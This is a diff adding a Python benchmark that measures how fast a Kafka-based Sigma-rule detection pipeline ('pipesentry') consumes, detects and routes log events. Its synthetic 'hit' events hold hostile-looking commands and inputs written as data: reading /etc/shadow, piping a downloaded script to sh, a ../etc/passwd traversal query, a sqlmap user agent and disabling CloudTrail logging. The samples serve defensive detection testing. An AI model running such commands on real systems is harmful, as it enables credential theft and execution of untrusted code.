@@ -1,0 +1,335 @@
+"""Kafka pipeline benchmark: raw aiokafka consumption vs pipesentry consume+decode+detect+route.
+
+    python bench/pipeline.py --json [--events 200000] [--bootstrap HOST:PORT]
+
+Without ``--bootstrap`` a private broker is started with ``service.devservices``.
+Steps, in one run:
+
+1. pre-load ``--events`` events (a mixed corpus over seven log sources; about
+   2% of them match a rule) into one topic per log source;
+2. (a) ``raw_consume_per_s``: a plain aiokafka consumer reads every record,
+   no processing;
+3. (b) ``pipeline_per_s``: pipesentry's ``KafkaRunner`` over the same topics
+   (project rules plus the SigmaHQ cloud, linux, web and application rules),
+   handing alerts to the real alert router with a null sink, until every
+   offset is acknowledged;
+4. ``latency_p99_ms``: a separate producer process sends a steady
+   ``--rate`` events/s to fresh topics for ``--seconds``; for every alert,
+   the time from the producer's send to the router accepting it.
+
+Prints one JSON object with ``--json``.
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import json
+import os
+import random
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+from typing import Any
+
+import orjson
+
+ROOT = Path(__file__).resolve().parent.parent
+SIGMAHQ = ROOT.parent / "shared" / "sigmahq" / "rules"
+SOURCES: dict[str, dict[str, str]] = {
+    "linux": {"product": "linux", "category": "process_creation"},
+    "auditd": {"product": "linux", "service": "auditd"},
+    "aws": {"product": "aws", "service": "cloudtrail"},
+    "github": {"product": "github", "service": "audit"},
+    "proxy": {"category": "proxy"},
+    "web": {"category": "webserver"},
+    "ci": {"category": "ci_job_log"},
+}
+WORDS = ("build", "deploy", "alpha", "beta", "cache", "node", "api", "index", "report", "assets", "tmp")
+
+
+def _w(rng: random.Random) -> str:
+    return rng.choice(WORDS)
+
+
+def make_event(kind: str, rng: random.Random, hit: bool, sent: float) -> dict[str, Any]:
+    """One event of ``kind``; ``hit`` ones carry a value some rule looks for."""
+    if kind == "linux":
+        cmd = "bash -c 'cat /etc/shadow'" if hit else f"/usr/bin/{_w(rng)} --{_w(rng)} /srv/{_w(rng)}"
+        ev: dict[str, Any] = {"Image": "/usr/bin/bash" if hit else f"/usr/bin/{_w(rng)}", "CommandLine": cmd,
+                              "ParentImage": "/usr/bin/sshd", "User": "ci", "CurrentDirectory": "/home/ci"}
+    elif kind == "auditd":
+        ev = {"type": "EXECVE", "a0": "chattr" if hit else _w(rng), "a1": "-i" if hit else f"--{_w(rng)}",
+              "a2": "/etc/passwd", "exe": f"/usr/bin/{_w(rng)}"}
+    elif kind == "aws":
+        ev = {"eventSource": "cloudtrail.amazonaws.com" if hit else "s3.amazonaws.com",
+              "eventName": "StopLogging" if hit else rng.choice(("GetObject", "PutObject", "HeadObject")),
+              "userIdentity": {"type": "IAMUser", "arn": f"arn:aws:iam::1:user/{_w(rng)}"},
+              "sourceIPAddress": f"10.0.{rng.randint(0, 255)}.{rng.randint(0, 255)}", "awsRegion": "eu-west-1"}
+    elif kind == "github":
+        ev = {"action": "org.update_member" if hit else rng.choice(("repo.create", "team.add_member", "git.clone")),
+              "permission": "admin" if hit else "read", "actor": _w(rng), "org": "acme",
+              "repo": f"acme/{_w(rng)}"}
+    elif kind == "proxy":
+        ev = {"c-uri": f"http://{_w(rng)}.example.com/{_w(rng)}", "cs-method": "GET",
+              "c-useragent": "sqlmap/1.7" if hit else "Mozilla/5.0 (X11; Linux x86_64)",
+              "cs-host": f"{_w(rng)}.example.com", "sc-status": 200}
+    elif kind == "web":
+        ev = {"cs-method": "GET", "cs-uri-query": "/?q=../../../../etc/passwd" if hit else f"/{_w(rng)}?id={rng.randint(1, 99)}",
+              "sc-status": 200, "c-ip": "192.0.2.7", "cs-user-agent": "curl/8.0"}
+    else:
+        ev = {"repository": f"acme/{_w(rng)}", "job": _w(rng), "step": _w(rng),
+              "message": "$ curl -sSfL https://get.example.net/i.sh | sh" if hit
+              else f"Step {rng.randint(1, 40)}/40 : RUN npm ci --{_w(rng)} {_w(rng)}"}
+    ev["@timestamp"] = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sent)) + "Z"
+    ev["bench_sent"] = sent
+    return ev
+
+
+def corpus(count: int, seed: int = 11, hit_rate: float = 0.02) -> dict[str, list[bytes]]:
+    rng = random.Random(seed)
+    kinds = list(SOURCES)
+    out: dict[str, list[bytes]] = {k: [] for k in kinds}
+    now = time.time()
+    for _ in range(count):
+        kind = rng.choice(kinds)
+        out[kind].append(orjson.dumps(make_event(kind, rng, rng.random() < hit_rate, now)))
+    return out
+
+
+def rule_paths() -> list[str]:
+    paths = [str(ROOT / "sigma-rules")]
+    paths += [str(SIGMAHQ / d) for d in ("cloud", "linux", "web", "application") if (SIGMAHQ / d).is_dir()]
+    return paths
+
+
+def settings_for(bootstrap: str, prefix: str, group: str) -> Any:
+    from service.config import Settings
+
+    topics = {f"{prefix}{kind}": {"decoder": "json", "logsource": ls} for kind, ls in SOURCES.items()}
+    return Settings(
+        kafka={"bootstrap_servers": [bootstrap], "group_id": group, "topics": topics, "max_batch": 5000,
+               "max_in_flight_batches": 4, "commit_interval_s": 1.0},
+        rules={"paths": rule_paths(), "skip_invalid": True, "watch": False},
+        alerting={"sinks": [{"type": "null"}]},
+        stdin={"enabled": False}, http_ingest={"enabled": False})
+
+
+async def preload(bootstrap: str, prefix: str, events: dict[str, list[bytes]]) -> None:
+    from aiokafka import AIOKafkaProducer
+
+    producer = AIOKafkaProducer(bootstrap_servers=bootstrap, linger_ms=20, max_batch_size=1 << 20,
+                                compression_type=None, acks=1)
+    await producer.start()
+    try:
+        for kind, values in events.items():
+            batch = producer.create_batch()
+            for value in values:
+                if batch.append(key=None, value=value, timestamp=None) is None:
+                    await (await producer.send_batch(batch, f"{prefix}{kind}", partition=0))
+                    batch = producer.create_batch()
+                    batch.append(key=None, value=value, timestamp=None)
+            if batch.record_count():
+                await (await producer.send_batch(batch, f"{prefix}{kind}", partition=0))
+    finally:
+        await producer.stop()
+
+
+async def raw_consume(bootstrap: str, topics: list[str], total: int) -> float:
+    from aiokafka import AIOKafkaConsumer
+
+    consumer = AIOKafkaConsumer(*topics, bootstrap_servers=bootstrap, group_id=f"raw-{os.getpid()}",
+                                auto_offset_reset="earliest", enable_auto_commit=False)
+    await consumer.start()
+    try:
+        seen = 0
+        started = None
+        while seen < total:
+            batches = await consumer.getmany(timeout_ms=500, max_records=5000)
+            if started is None and batches:
+                started = time.perf_counter()
+            seen += sum(len(r) for r in batches.values())
+        assert started is not None
+        return total / (time.perf_counter() - started)
+    finally:
+        await consumer.stop()
+
+
+class TimingRouter:
+    """The real alert router (null sink) plus latency bookkeeping per accepted alert."""
+
+    def __init__(self, inner: Any) -> None:
+        self.inner = inner
+        self.alerts = 0
+        self.latencies: list[float] = []
+
+    async def submit(self, alerts: Any) -> None:
+        await self.inner.submit(alerts)
+        now = time.time()
+        self.alerts += len(alerts)
+        for alert in alerts:
+            sent = orjson.loads(alert.original).get("bench_sent")
+            if sent is not None:
+                self.latencies.append(now - sent)
+
+
+def _acked(runner: Any) -> int:
+    return sum(runner.tracker.acked.values())
+
+
+async def run_pipeline(settings: Any, until_acked: int | None, data_dir: Path, duration: float | None = None,
+                       on_ready: Any = None) -> tuple[float, TimingRouter, int]:
+    from service.alerting.router import AlertRouter
+    from service.detection import Detector
+    from service.reload import compile_configured
+    from service.runtime import KafkaRunner, tune_gc
+
+    outcome = compile_configured(settings.rules, settings.correlation, settings.anomaly, 1)
+    assert outcome.detection is not None
+    tune_gc()
+    router = TimingRouter(AlertRouter(settings.alerting, data_dir))
+    await router.inner.start()
+    runner = KafkaRunner(settings.kafka, settings.events, Detector(outcome.detection), router)
+    stop = asyncio.Event()
+    task = asyncio.create_task(runner.run(stop))
+    try:
+        while _acked(runner) == 0 and not runner.ready:
+            await asyncio.sleep(0.005)
+        if on_ready is not None:
+            on_ready()
+        started = time.perf_counter()
+        if duration is not None:
+            await asyncio.sleep(duration)
+        else:
+            while _acked(runner) < (until_acked or 0):
+                await asyncio.sleep(0.002)
+        elapsed = time.perf_counter() - started
+        return elapsed, router, _acked(runner)
+    finally:
+        stop.set()
+        await task
+        await router.inner.stop()
+
+
+def producer_main(bootstrap: str, prefix: str, rate: int, seconds: float) -> None:
+    """Child process: send ``rate`` events/s for ``seconds`` (fresh events stamped at send time)."""
+    from aiokafka import AIOKafkaProducer
+
+    async def main() -> None:
+        producer = AIOKafkaProducer(bootstrap_servers=bootstrap, linger_ms=5, acks=1)
+        await producer.start()
+        rng = random.Random(5)
+        kinds = list(SOURCES)
+        tick = 0.01
+        per_tick = max(1, int(rate * tick))
+        began = time.perf_counter()
+        n = 0
+        while time.perf_counter() - began < seconds:
+            for _ in range(per_tick):
+                kind = kinds[n % len(kinds)]
+                value = orjson.dumps(make_event(kind, rng, rng.random() < 0.02, time.time()))
+                await producer.send(f"{prefix}{kind}", value)
+                n += 1
+            target = began + n / rate
+            delay = target - time.perf_counter()
+            if delay > 0:
+                await asyncio.sleep(delay)
+        await producer.flush()
+        await producer.stop()
+        print(json.dumps({"sent": n}), flush=True)
+
+    asyncio.run(main())
+
+
+async def bench(args: argparse.Namespace, bootstrap: str, workdir: Path) -> dict[str, Any]:
+    from aiokafka.admin import AIOKafkaAdminClient, NewTopic
+
+    run = f"b{os.getpid()}x{int(time.time())}-"
+    admin = AIOKafkaAdminClient(bootstrap_servers=bootstrap)
+    await admin.start()
+    await admin.create_topics([NewTopic(f"{p}{k}", 1, 1) for p in (run, run + "lat-") for k in SOURCES])
+    await admin.close()
+
+    events = corpus(args.events)
+    began = time.perf_counter()
+    await preload(bootstrap, run, events)
+    preload_s = time.perf_counter() - began
+
+    raw = await raw_consume(bootstrap, [f"{run}{k}" for k in SOURCES], args.events)
+    elapsed, router, acked = await run_pipeline(settings_for(bootstrap, run, f"pipe-{run}"), args.events,
+                                                workdir / "pipe")
+    pipeline = acked / elapsed
+
+    latency_settings = settings_for(bootstrap, run + "lat-", f"lat-{run}")
+    children: list[subprocess.Popen[str]] = []
+
+    def start_producer() -> None:  # once partitions are assigned: group joining is not latency
+        children.append(subprocess.Popen([sys.executable, __file__, "--produce", bootstrap, run + "lat-",
+                                          str(args.rate), str(args.seconds)], stdout=subprocess.PIPE, text=True))
+
+    try:
+        _, lat_router, lat_acked = await run_pipeline(latency_settings, None, workdir / "lat",
+                                                      duration=args.seconds + 3, on_ready=start_producer)
+    finally:
+        out = children[0].communicate(timeout=60)[0] if children else ""
+    sent = json.loads(out.strip().splitlines()[-1])["sent"] if out.strip() else 0
+    lat = sorted(lat_router.latencies)
+    p99 = lat[min(len(lat) - 1, int(len(lat) * 0.99))] * 1000 if lat else None
+    p50 = lat[len(lat) // 2] * 1000 if lat else None
+    return {
+        "events": args.events,
+        "preload_s": round(preload_s, 2),
+        "raw_consume_per_s": round(raw),
+        "pipeline_per_s": round(pipeline),
+        "ratio": round(pipeline / raw, 3),
+        "alerts": router.alerts,
+        "latency_p99_ms": round(p99, 1) if p99 is not None else None,
+        "latency_p50_ms": round(p50, 1) if p50 is not None else None,
+        "latency_rate_per_s": args.rate,
+        "latency_events_sent": sent,
+        "latency_events_processed": lat_acked,
+        "latency_alerts": len(lat),
+        "rules": rule_paths(),
+    }
+
+
+def main() -> int:
+    if len(sys.argv) > 1 and sys.argv[1] == "--produce":
+        producer_main(sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5]))
+        return 0
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--json", action="store_true", help="print one JSON object")
+    parser.add_argument("--events", type=int, default=200_000)
+    parser.add_argument("--rate", type=int, default=10_000, help="events/s for the latency phase")
+    parser.add_argument("--seconds", type=float, default=10.0, help="length of the latency phase")
+    parser.add_argument("--bootstrap", help="use this broker instead of starting one")
+    args = parser.parse_args()
+    import logging
+
+    logging.basicConfig(level=logging.WARNING)
+    with tempfile.TemporaryDirectory(prefix="pipesentry-bench-") as tmp:
+        workdir = Path(tmp)
+        server = None
+        bootstrap = args.bootstrap
+        if bootstrap is None:
+            from service.devservices.kafka import KafkaServer
+
+            server = KafkaServer.start(workdir / "kafka")
+            bootstrap = server.bootstrap
+        try:
+            result = asyncio.run(bench(args, bootstrap, workdir))
+        finally:
+            if server is not None:
+                server.stop()
+    if args.json:
+        print(json.dumps(result))
+    else:
+        for key, value in result.items():
+            print(f"{key:28} {value}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
